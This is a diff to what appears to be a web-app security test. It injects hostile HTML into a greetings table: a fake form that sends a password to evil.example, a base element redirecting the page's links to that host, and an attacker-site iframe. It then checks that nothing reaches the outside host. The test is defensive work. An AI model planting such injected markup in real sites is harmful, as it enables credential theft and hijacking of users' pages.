@@ -9,6 +9,14 @@ for (const html of shuffle(loads)) {
 sql("INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)", '<form id="more" method="post" action="https://evil.example/take"><input name="password"><button>More</button></form>');
 const page = await kofi.visit('/studio');
 if (page.all('#more').length > 0) await kofi.submit('#more', { password: 'x' });
+sql(
+  "INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)",
+  '<base href="https://evil.example/">',
+);
+await kofi.visit('/');
+await kofi.click('a.brand');
+await kofi.visitAttacker('<iframe src="https://app.test/studio"></iframe>');
+blocked('framed', 'the studio can be shown in a frame of another site');
 const left = events('outgoing').filter(({ by, host }) => by === 'page' && host === 'evil.example');
 expect(left.map(({ url }) => url), 'a greeting loaded something from another host, or sent something there').toBeEmpty();
 // A base element would lead every address of the page to another host, and a frame would show the page on one.
